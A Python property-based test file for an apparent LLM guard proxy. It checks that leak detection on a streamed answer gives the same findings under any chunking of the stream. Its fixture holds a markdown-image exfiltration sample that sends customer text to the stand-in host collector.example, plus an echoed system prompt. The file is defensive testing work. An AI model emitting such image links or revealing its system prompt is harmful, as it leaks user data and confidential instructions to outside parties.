"""What an answer carries away is found alike in any cut of its stream: addresses with data, the system prompt."""

from __future__ import annotations

from typing import Any

import orjson
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stockade.testing.playbook import Answer, Sent
from tests.clients.test_leaks import ADDRESS, PROMPT
from tests.guard.pipeline.talks import answer, ask, each_dialect, say
from tests.properties.gates import playbook
from tests.properties.test_any_cut import cut, without_pings

TEXT = (
    f"See ![a]({ADDRESS}) and ![b](<https://collector.example/p?q=the customer Ana asked to cancel it>) and more. "
    f"My rules: {PROMPT} That is all."
)


def asked(dialect: str) -> Sent:
    """Return a streamed request with the system prompt."""
    sent = ask(dialect, "hello", stream=True)
    body = orjson.loads(sent.body)
    if dialect == "openai_chat":
        body["messages"].insert(0, {"role": "system", "content": PROMPT})
    else:
        body["system" if dialect == "anthropic_messages" else "instructions"] = PROMPT
    return sent._replace(body=orjson.dumps(body))


def seen(dialect: str, pieces: tuple[bytes, ...]) -> dict[str, Any]:
    """Return what may not depend on the cut."""
    played = playbook().play(asked(dialect), Answer(pieces, 200, "text/event-stream"))
    assert played.finished
    return {"body": without_pings(played.body), "findings": played.records[-1]["findings"]}


@each_dialect
@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cuts=st.lists(st.integers(0, 10**6), max_size=12))
def test_any_cut(dialect: str, cuts: list[int]) -> None:
    stream = b"".join(answer(dialect, say(TEXT, chunk="words"), streamed=True).pieces)
    whole = seen(dialect, (stream,))
    assert seen(dialect, cut(stream, cuts)) == whole
    rules = [finding["rule"] for finding in whole["findings"]]
    assert rules[:2] == ["image_data", "image_data"]
    assert {"system_prompt_passage", "system_prompt"} <= set(rules)


@each_dialect
def test_byte_by_byte(dialect: str) -> None:
    stream = b"".join(answer(dialect, say(TEXT, chunk="words"), streamed=True).pieces)
    assert seen(dialect, tuple(bytes([byte]) for byte in stream)) == seen(dialect, (stream,))
